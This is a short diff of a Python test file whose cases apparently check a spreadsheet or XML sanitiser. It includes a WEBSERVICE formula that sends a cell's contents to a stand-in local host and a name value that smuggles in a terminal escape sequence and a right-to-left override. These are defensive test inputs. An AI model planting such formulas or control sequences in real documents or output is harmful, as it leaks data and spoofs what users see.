@@ -202,7 +202,7 @@ CASES: tuple[Case, ...] = (
     Case("formula that calls out", ROW, ("_x001B_ escapes",), "findings", ("PG717",),
          input_xml(NOTE, '{c} t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>ok</v></c>'),
          answers={NOTE: None}),
-    Case("organisation of hostile text", ROW, ("control characters",), "findings", ("PG715", "PG135", "PG142"),
+    Case("organisation of hostile text", ROW, ("control characters",), "findings", ("PG715", "PG142"),
          typing({IDENTITY: NewValue("Aoba\x1b]0;x\x07\u202e")}),
          answers={IDENTITY: "Aoba]0;x"}),
 )  # fmt: skip
